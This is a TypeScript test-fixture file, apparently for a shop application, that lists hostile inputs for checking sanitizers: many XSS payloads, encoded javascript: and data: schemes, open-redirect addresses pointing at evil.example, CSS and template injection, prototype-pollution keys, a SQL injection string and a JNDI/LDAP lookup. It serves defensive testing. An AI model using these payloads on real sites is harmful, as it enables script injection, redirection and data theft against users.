/** Texts by which a page could be made to run a script, to load or send something, or to break out of where they stand. */

/** Where none of them may lead, and from where nothing may be loaded. */
export const EVIL_HOST = 'evil.example';

/** A scheme as browsers still read it, or as they may. */
const SPELLINGS: readonly ((scheme: string) => string)[] = [
  (scheme) => `${scheme}:`,
  (scheme) => `${scheme.toUpperCase()}:`,
  (scheme) => ` \t\n${scheme}:`,
  (scheme) => `${scheme.slice(0, 3)}\t${scheme.slice(3)}:`,
  (scheme) => `${scheme.slice(0, 3)}\n${scheme.slice(3)}:`,
  (scheme) => `${scheme.slice(0, 3)}\r${scheme.slice(3)}:`,
  (scheme) => `${scheme.slice(0, 3)}\u0000${scheme.slice(3)}:`,
  (scheme) => `${scheme.slice(0, 3)}\u00ad${scheme.slice(3)}:`,
  (scheme) => `\u0001\u001f${scheme}:`,
  (scheme) => `\u00a0${scheme}:`,
  (scheme) => `\ufeff${scheme}:`,
  (scheme) => `\u2028${scheme}\u2029:`,
  (scheme) => `${scheme}&colon;`,
  (scheme) => `&#${scheme.charCodeAt(0)};${scheme.slice(1)}:`,
  (scheme) => `${scheme.slice(0, 3)}&Tab;${scheme.slice(3)}:`,
  (scheme) => `%${scheme.charCodeAt(0).toString(16)}${scheme.slice(1)}:`,
];

const SCHEMES: Readonly<Record<string, string>> = {
  javascript: 'alert(1)',
  data: 'text/html,<script>alert(1)</script>',
  vbscript: 'msgbox(1)',
};

const SCRIPT_ADDRESSES = [
  ...Object.entries(SCHEMES).flatMap(([scheme, rest]) => SPELLINGS.map((spell) => spell(scheme) + rest)),
  ' javascript://%0aalert(1)',
  'livescript:x',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://shop.example/1',
  'filesystem:https://shop.example/temporary/x',
  'file:///etc/passwd',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  'jar:https://evil.example!/x',
  'about:blank',
  'intent://evil.example#Intent;end',
  'ws://evil.example',
  'ftp://evil.example',
  'http://evil.example',
];

const FOREIGN_ADDRESSES = [
  '//evil.example',
  '///evil.example',
  '////evil.example',
  '/\\evil.example',
  '\\/evil.example',
  '\\\\evil.example',
  '/\t/evil.example',
  '/\n/evil.example',
  '/ /evil.example',
  'https:evil.example',
  'https:/evil.example',
  'https:\\\\evil.example',
  'https://shop.example@evil.example',
  'https://shop.example:x@evil.example/',
  'https://evil.example\\@shop.example',
  'https://',
  '%2f%2fevil.example',
  '/%5cevil.example',
  '/..//evil.example',
  '/.//evil.example',
  './/evil.example',
  '../../evil',
  '?next=//evil.example',
  '#javascript:alert(1)',
  'mailto:a@b.example?bcc=evil@evil.example',
  'mailto:x@y.example%0abcc:evil@evil.example',
  'mailto:"<script>"@x.example',
  'mailto://evil.example',
  'tel:javascript:alert(1)',
  'tel:+1;phone-context=evil',
  '/media/../../etc/passwd',
  '/media/%2e%2e/api/order',
  '/media/x" onerror="alert(1)',
  "/media/x' onerror='alert(1)",
  '/media/<svg>',
  '/media/x)url(//evil.example',
];

const TAGS = ['script', 'img', 'svg', 'iframe', 'object', 'embed', 'form', 'base', 'link', 'meta', 'style', 'math'];
const EVENTS = ['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart'];
const BREAKS = ['"', "'", '>', '-->', '</script>', '</style>', '</textarea>', ']]>', '`', '\u2028', '%22', '&quot;'];

const markup = TAGS.flatMap((tag) => [
  `<${tag} src=x onerror=alert(1)>`,
  `</${tag}><${tag}/x onload=alert(1)//`,
  `<${tag.toUpperCase()} href=javascript:alert(1) xlink:href=javascript:alert(1)>`,
]);

const breakouts = BREAKS.map((end, at) => `x${end} ${EVENTS[at % EVENTS.length]}=alert(1) `);

/** Markup that runs by itself once it is part of a page. */
const RUNNING = [
  '<script>alert(1)</script>',
  '<script\n>alert(1)</script\t>',
  '</title><script>alert(1)</script>',
  '</p></div></main><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '--><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video src=x onerror=alert(1)></video>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
];

const ELEMENTS = [
  '<SCRIPT SRC=//evil.example/a.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<svg><set attributeName=href to=javascript:alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<template><script>alert(1)</script></template>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<form action="https://evil.example/"><button autofocus>x</button></form>',
  '<plaintext>',
];

const STYLES = [
  'red;background:url(//evil.example)',
  '#ff0000;background-image:url(https://evil.example/b.png)',
  'expression(alert(1))',
  'url(javascript:alert(1))',
  '#fff;position:fixed',
  '#ffffff}body{display:none',
  '}</style><script>alert(1)</script>',
  '#ff0000</style><img src=x onerror=alert(1)>',
  'red/**/;}*{display:none',
  'image-set("https://evil.example/f.png" 1x)',
  'rgb(1,2,3);x:y',
  'rgb(999,999,999)',
  'rgba(1,2,3,0)',
  'var(--x)',
  '-moz-binding:url(//evil.example)',
  '@import "//evil.example"',
  '\\75rl(//evil.example)',
  'fixed inset-0 z-50"',
];

const PROTOTYPE_NAMES = [
  ...['constructor', '__proto__', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', 'then'],
  ...['dangerouslySetInnerHTML', '$$typeof', 'innerHTML', 'document', 'location', '__typename'],
];

const JSON_ENDS = [
  '"}]}</script><script>alert(1)</script>',
  '</script/x><img src=x onerror=alert(1)>',
  '<!--<script>',
  '\\u003c/script><script>alert(1)</script>',
  '\u2028alert(1)//',
  '\u2029";alert(1);"',
  "'+alert(1)+'",
  '\\',
  '\\"',
  '","answers":[],"x":"',
  '{"__proto__":{"isAdmin":true}}',
  '\ud800</script><script>alert(1)</script>',
  'a\u0000b</script><script>alert(1)</script>',
];

const TEMPLATES = [
  '{{constructor.constructor("alert(1)")()}}',
  '{{productPrice(<img src=x onerror=alert(1)>)}}',
  '{{productPrice(X, promo"><script>alert(1)</script>)}}',
  '{{productPrice(X}}</script><script>alert(1)</script>',
  '{{productSpecificPrice(X, <script>alert(1)</script>)}}',
  '{{productPrice(__proto__)}}',
  '{{statisticValue(constructor)}}',
  '{{__proto__()}}',
  '{{orderCount()}}<script>alert(1)</script>',
  '{{{{orderCount()}}}}',
  '{{orderCount()',
  '}}{{',
  '\u0024{alert(1)}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  '\ud800',
  '\u202e',
  '\u0000',
  "'; DROP TABLE story; --",
  '\u0024{jndi:ldap://evil.example/a}',
];

/** As addresses they run, or lead out of the shop. */
export const HOSTILE_ADDRESSES: readonly string[] = [...SCRIPT_ADDRESSES, ...FOREIGN_ADDRESSES];

/** As parts of a page they run. */
export const RUNNING_TEXTS: readonly string[] = RUNNING;

/** No two are the same. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...HOSTILE_ADDRESSES,
  ...markup,
  ...breakouts,
  ...RUNNING,
  ...ELEMENTS,
  ...STYLES,
  ...PROTOTYPE_NAMES,
  ...JSON_ENDS,
  ...TEMPLATES,
];
